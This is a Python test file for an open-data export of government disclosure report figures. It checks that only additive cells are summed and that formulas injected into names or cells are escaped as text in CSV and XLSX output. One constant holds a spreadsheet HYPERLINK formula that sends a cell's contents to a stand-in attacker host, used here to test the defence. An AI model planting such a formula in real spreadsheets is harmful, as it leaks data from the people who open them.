"""Open data (gkreport/public/opendata.py): sums over additive cells only, and no cell or
name ever comes out as a spreadsheet formula."""

import csv
import io

from openpyxl import load_workbook

from gkreport.formats import FORMAT_2019
from tests.public.conftest import publish_as_printed


def test_items_of_the_2019_format_are_not_summed():
    additive = {cell.code: cell.additive for cell in FORMAT_2019.cells}
    assert additive["t2.licensing.previous_items"] is False
    assert additive["t2.licensing.change"] is False
    assert additive["t2.licensing.decisions"] is True
    assert additive["t3.new_received.total"] is True


FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'


def test_formulas_in_names_and_cells_come_out_as_text(client, people):
    people.agency.name = FORMULA_NAME
    people.agency.save()
    people.report.cells["t2.fees.amount"] = "=1+1"
    people.report.save()
    publish_as_printed(people.report, people.bob)
    code, region = people.agency.code, people.agency.region_id

    text = client.get(f"/public/agency/{code}/2023/data.csv").content.decode("utf-8-sig")
    by_code = {row[0]: row for row in csv.reader(io.StringIO(text))}
    assert by_code["t2.fees.amount"][6] == "'=1+1"
    assert by_code["t3.new_received.total"][5] == "9"  # a number stays a number

    text = client.get(f"/public/data/2023/{region}.csv").content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[2][0] == "'" + FORMULA_NAME

    content = client.get(f"/public/data/2023/{region}.xlsx").content
    sheet = load_workbook(io.BytesIO(content)).active
    name = sheet.cell(row=2, column=1)
    assert name.value == "'" + FORMULA_NAME and name.data_type == "s"
    column = [c.value for c in sheet[1]].index("表三 一、本年新收政府信息公开申请数量 总计") + 1
    assert sheet.cell(row=2, column=column).value == 9
